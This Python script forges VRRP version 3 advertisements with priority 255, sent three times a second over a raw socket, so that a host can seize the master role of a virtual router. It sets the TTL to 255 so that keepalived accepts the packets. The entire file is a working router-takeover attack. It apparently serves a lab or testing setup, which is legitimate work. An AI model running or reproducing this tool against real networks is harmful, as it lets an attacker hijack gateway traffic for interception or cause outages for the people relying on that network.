"""Runs on a host: forged VRRP adverts of version 3, as a host could send them that wants to be master.

    vrrp_forge.py SECONDS SOURCE DESTINATION ROUTER ADDRESS

With the priority 255, three a second. SOURCE is an address of the host, DESTINATION that of a director or 224.0.0.18,
ROUTER the virtual router's id and ADDRESS the virtual address: RFC 5798 sections 5.1 and 5.2.
"""

import socket
import struct
import sys
import time

PROTOCOL, PRIORITY, INTERVAL, INTERFACE = 112, 255, 30, "eth0"


def checksum(data):
    """The Internet checksum of RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def advert(source, destination, router, address):
    """An advert with one address; its checksum covers where it comes from and goes to."""

    def packet(own):
        head = struct.pack("!BBBBHH", 3 << 4 | 1, router, PRIORITY, 1, INTERVAL, own)
        return head + socket.inet_aton(address)

    ends = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!HH", PROTOCOL, len(packet(0)))
    return packet(checksum(ends + packet(0)))


def main():
    """Send, and say how many."""
    seconds, source, destination, router, address = sys.argv[1:]
    end, sent = time.monotonic() + float(seconds), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, PROTOCOL) as sender:
        # keepalived takes multicast only from its own network, which it sees by the TTL.
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        own = struct.pack("=4s4si", bytes(4), bytes(4), socket.if_nametoindex(INTERFACE))
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, own)
        sender.bind((source, 0))
        while time.monotonic() < end:
            sender.sendto(advert(source, destination, int(router), address), (destination, 0))
            sent += 1
            time.sleep(0.3)
    print(sent, flush=True)


main()
